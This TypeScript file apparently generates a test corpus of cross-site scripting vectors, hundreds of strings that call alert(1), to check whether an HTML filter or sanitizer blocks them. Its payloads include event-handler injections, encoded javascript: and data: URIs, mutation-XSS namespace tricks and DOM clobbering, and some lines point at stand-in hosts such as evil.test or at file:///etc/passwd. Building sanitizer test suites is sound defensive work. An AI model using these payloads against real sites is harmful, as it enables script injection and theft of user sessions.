/** Ways to run a script from markup, one string each; all of them call alert. Made by combining, so that a filter is asked about each pair. */
export function scriptVectors(): string[] {
  return [...elements, ...handlers(), ...separators(), ...schemes(), ...mutations(), ...nestings];
}

const ran = 'alert(1)';

const elements = [
  `<script>${ran}</script>`,
  `<SCRIPT/x>${ran}</SCRIPT/x>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<script src="data:text/javascript,${ran}"></script>`,
  `<script type=module>${ran}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/spec"]}]}</script>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><script href="data:text/javascript,${ran}"/></svg>`,
  `<svg><script>alert&#40;1&#41;</script></svg>`,
  `<math><script>${ran}</script></math>`,
  `<svg><foreignObject><body onload=${ran}><iframe srcdoc="<script>${ran}</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${ran}&lt;/script&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${ran}</script>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-modals" srcdoc="<script>${ran}</script>"></iframe>`,
  `<object data="data:text/html,<script>${ran}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>">`,
  `<frameset onload=${ran}><frame src="javascript:${ran}"></frameset>`,
  `<template shadowrootmode=open><img src=x onerror=${ran}></template>`,
  `<div><template shadowrootmode=open><slot></slot><script>${ran}</script></template></div>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${ran}</script>`,
  `<base href="javascript:/a/-${ran}///////"><a href=../lol>x</a>`,
  `<svg><animate xlink:href=#t attributeName=href values="javascript:${ran}"/><a id=t><text y=20>x</text></a></svg>`,
  `<svg><set xlink:href=#s attributeName=onmouseover to=${ran} /><a id=s><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${ran}'/></svg>#x"/></svg>`,
  `<svg><discard onbegin=${ran}></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${ran} /><text x=20 y=20>x</text></a>`,
  `<math><maction actiontype="statusline#http://x.test" xlink:href="javascript:${ran}">x</maction></math>`,
  `<xml id=x><x><img src=x onerror=${ran}></x></xml>`,
  `<?xml-stylesheet href="javascript:${ran}"?><img src=x onerror=${ran}>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${ran}</script>">]><x>&e;</x>`,
  `<!--[if gte mso 9]><script>${ran}</script><![endif]--><![if !mso]><img src=x onerror=${ran}><![endif]>`,
  `<!--><img src=x onerror=${ran}>-->`,
  `<!---><img src=x onerror=${ran}>-->`,
  `<!-- --!><img src=x onerror=${ran}> -->`,
  `<![CDATA[<img src=x onerror=${ran}>]]>`,
  `</ <img src=x onerror=${ran}>`,
  `<%<img src=x onerror=${ran}>`,
  `<a href="jav&#x09;ascript:${ran}" id=x>x</a>`,
  `<button popovertarget=p>x</button><div id=p popover onbeforetoggle=${ran}>y</div>`,
  `<input type=hidden oncontentvisibilityautostatechange=${ran} style=content-visibility:auto>`,
  `<x oncontentvisibilityautostatechange=${ran} style=display:block;content-visibility:auto>x`,
  `<style>@keyframes k{}</style><p style="animation-name:k;animation-duration:1s" onanimationstart=${ran}>x</p>`,
  `<style>p{transition:color 1s}p:hover{color:red}</style><p ontransitionend=${ran}>x</p>`,
  `<style onload=${ran}></style>`,
  `<link rel=stylesheet href="data:text/css,x" onload=${ran} onerror=${ran}>`,
  `<p style="width:expression(${ran});behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>`,
  `<p style="background:url('javascript:${ran}')">x</p>`,
  `<isindex type=image src=1 onerror=${ran}>`,
  `<image src=x onerror=${ran}>`,
  `<listing>&lt;img src=x onerror=${ran}&gt;</listing>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `<b><noscript><a alt="</noscript><img src=x onerror=${ran}>">x</a></noscript></b>`,
];

const tags =
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rbc rp rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr x xmp'.split(' ');

/** Each element with handlers that fire by themselves, and with some that wait for a hand. */
function handlers(): string[] {
  const alone = ['onload', 'onerror', 'onfocus', 'onfocusin', 'onbegin', 'ontoggle', 'onstart', 'onpageshow', 'onscroll', 'onanimationstart'];
  const all = alone.map((name) => `${name}=${ran}`).join(' ');
  return [
    ...tags.map((tag) => `<${tag} src=x data=x href=x open autofocus tabindex=1 ${all}>x</${tag}>`),
    ...['onclick', 'onmouseover', 'onpointerenter', 'onkeydown', 'oncopy', 'onwheel', 'onauxclick', 'ondragstart', 'onbeforeinput', 'oncommand', 'onscrollsnapchange', 'onunknown'].flatMap((name) => [
      `<p ${name}=${ran}>x</p>`,
      `<svg ${name}=${ran}><g ${name}=${ran}/></svg>`,
      `<math ${name}=${ran}><mi ${name}=${ran}>x</mi></math>`,
    ]),
  ];
}

/** What parsers take for a space, a quote or the end of a name. */
function separators(): string[] {
  const between = ['/', '\t', '\n', '\f', '\r', '//', '/x/', ' / ', '\0', '"', "'", '`', '\u00a0', '\u2028', '\x0b', '=', '<'];
  const quoted = [ran, `"${ran}"`, `'${ran}'`, `\`${ran}\``, `"alert&lpar;1&rpar;"`, `"&#97;lert(1)"`, `"\\u0061lert(1)"`, `"${ran}`];
  return [
    ...between.flatMap((space) => [`<img${space}src=x${space}onerror=${ran}>`, `<img src=x onerror${space}=${space}${ran}>`, `<svg${space}onload=${ran}>`, `<${space}img src=x onerror=${ran}>`]),
    ...quoted.flatMap((value) => [`<img src=x onerror=${value}>`, `<svg onload=${value}>`]),
    ...['IMG SRC=x ONERROR', 'iMg sRc=x oNeRrOr', 'img src=x src=y onerror', 'img alt="<" src=x onerror', 'img alt=">" src=x onerror', "img alt='\"' src=x onerror", 'img """><x onerror', 'img src=x style="}" onerror'].map((start) => `<${start}=${ran}>`),
  ];
}

/** Addresses that are scripts, disguised, in everything that takes an address. */
function schemes(): string[] {
  const disguised = [
    `javascript:${ran}`,
    `JaVaScRiPt:${ran}`,
    ` javascript:${ran}`,
    `\x01javascript:${ran}`,
    `java\tscript:${ran}`,
    `java&#10;script:${ran}`,
    `java&NewLine;script&colon;${ran}`,
    `&#x6A;&#97&#118;ascript:${ran}`,
    `javascript&#58;${ran}`,
    `javascript://x.test/%0a${ran}`,
    `\u00a0javascript:${ran}`,
    `vbscript:msgbox(1)`,
    `livescript:${ran}`,
    `data:text/html,<script>${ran}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>`,
    `blob:https://x.test/1`,
    `filesystem:https://x.test/1`,
    `feed:javascript:${ran}`,
    `view-source:javascript:${ran}`,
    `jar:javascript:${ran}!/x`,
    `file:///etc/passwd`,
    `smb://evil.test/x`,
    `ftp://evil.test/x`,
    `ms-word:ofe|u|https://evil.test/x`,
    `search-ms:query=x&crumb=location:\\\\evil.test`,
    `intent://x#Intent;end`,
  ];
  const carriers = [
    (address: string) => `<a href="${address}">x</a>`,
    (address: string) => `<area href="${address}" shape=default>`,
    (address: string) => `<form action="${address}"><input type=submit autofocus><button formaction="${address}">x</button></form>`,
    (address: string) => `<iframe src="${address}"></iframe>`,
    (address: string) => `<object data="${address}"></object><embed src="${address}">`,
    (address: string) => `<svg><a xlink:href="${address}" href="${address}"><text y=9>x</text></a></svg>`,
    (address: string) => `<math href="${address}"><mi xlink:href="${address}">x</mi></math>`,
    (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
    (address: string) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}" longdesc="${address}" usemap="${address}">`,
    (address: string) => `<link rel=stylesheet href="${address}"><link rel=import href="${address}">`,
    (address: string) => `<blockquote cite="${address}"><q cite="${address}">x</q><del cite="${address}">x</del></blockquote>`,
  ];
  return carriers.flatMap((carry) => disguised.map(carry));
}

/** Markup that means one thing to the first parser and another to the second: namespaces around elements whose content is text. */
function mutations(): string[] {
  const roots = ['svg', 'math', 'math><mtext', 'math><mi><mglyph', 'math><annotation-xml', 'math><annotation-xml encoding="text/html"', 'svg><foreignObject', 'svg><desc', 'svg><title', 'svg></p', 'math><mtext><table><mglyph', 'form><math><mtext></form><form><mglyph', 'table><svg', 'select><math'];
  const texts = ['style', 'xmp', 'noscript', 'title', 'textarea', 'iframe', 'noembed', 'noframes', 'script', 'plaintext', '!--', '![CDATA['];
  const hidden = `<img src=x onerror=${ran}>`;
  return roots.flatMap((root) =>
    texts.flatMap((text) => {
      const end = text === '!--' ? '-->' : text === '![CDATA[' ? ']]>' : `</${text}>`;
      return [`<${root}><${text}><a id="${end}${hidden}">`, `<${root}><${text}>${end}<a title="${end}${hidden}">x</a>`, `<${root}><${text}>${hidden}${end}</${root.split(/[> ]/)[0]}>`];
    }),
  );
}

const nestings = [
  `${'<div>'.repeat(600)}<img src=x onerror=${ran}>`,
  `${'<font>'.repeat(300)}<table><svg><style><img src=x onerror=${ran}>`,
  `${'<b><i>'.repeat(200)}<form><form><math><mtext><img src=x onerror=${ran}>`,
  `<table><td><table><form><img name=attributes><img src=x onerror=${ran}>`,
  `<form id=f><input name=attributes><input name=removeChild><input name=nodeName><img src=x onerror=${ran}></form>`,
  `<form onclick=${ran}><input name=attributes>x</form>`,
  `<img id=getElementById name=createElement><a id=body name=parent href="cid:${ran}">x</a>`,
  `<a id=defaultView><a id=defaultView name=alert href="javascript:${ran}">x</a>`,
  `<select><option><svg><style></select><img src=x onerror=${ran}></style>`,
  `<svg><p><style><g title="</style><img src=x onerror=${ran}>">`,
  `<svg></p><title><a id="</title><img src=x onerror=${ran}>"></svg>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${ran}>"></style></h1>`,
  `<p id="</p><img src=x onerror=${ran}>"></p><!--</p>-->`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${ran}&gt;">x</a>`,
  `<div title="\`\`onmouseover=${ran}">x</div>`,
  `<details open><summary><svg><title><style><img src=x onerror=${ran}></style></title></svg>`,
];
